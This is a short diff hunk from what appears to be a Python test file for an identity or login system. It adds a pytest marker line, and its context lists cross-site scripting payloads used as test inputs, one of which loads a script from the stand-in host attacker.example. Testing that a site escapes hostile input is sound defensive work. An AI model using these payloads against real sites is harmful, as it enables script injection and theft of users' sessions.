@@ -12,6 +12,8 @@ from identity.errors import IdentityError
 from tests.support.browser import Browser, Page
 from tests.support.builders import PASSWORD, Client, Person, Site
 
+pytestmark = [pytest.mark.any_engine, pytest.mark.long]
+
 PAYLOADS = (
     "<script>alert(1)</script>", "<ScRiPt/src=//attacker.example>", '"><img src=x onerror=alert(1)>',
     "' onfocus='alert(1)' autofocus='", "</title><svg onload=alert(1)>", "--><script>alert(1)</script><!--",
